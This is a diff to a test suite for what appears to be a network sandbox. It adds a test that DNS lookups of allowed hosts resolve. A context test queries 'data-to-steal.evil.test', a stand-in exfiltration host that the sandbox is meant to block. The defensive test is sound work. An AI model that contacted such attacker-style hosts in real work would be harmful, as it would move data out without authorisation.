@@ -134,6 +134,12 @@ def test_a_program_that_knows_no_proxy_reaches_a_named_host(house, web):
     assert row["verdict"] == "allow" and row["how"] == "http" and row["address"] == "127.78.0.1", row
 
 
+def test_programs_that_ask_what_addresses_there_are_resolve(house, web):
+    """AI_ADDRCONFIG: getent asks so, and so do wget and most of what is built on getaddrinfo(3)."""
+    run = sh(house, "getent ahostsv4 web.test | head -1", allow_hosts=rules(web))
+    assert run["stdout"].startswith("198.18.0."), run
+
+
 def test_names_stand_for_themselves_and_nothing_is_asked(house, web, names):
     run = sh(house, "getent ahosts web.test | head -1; getent ahosts data-to-steal.evil.test || echo none",
              allow_hosts=rules(web))
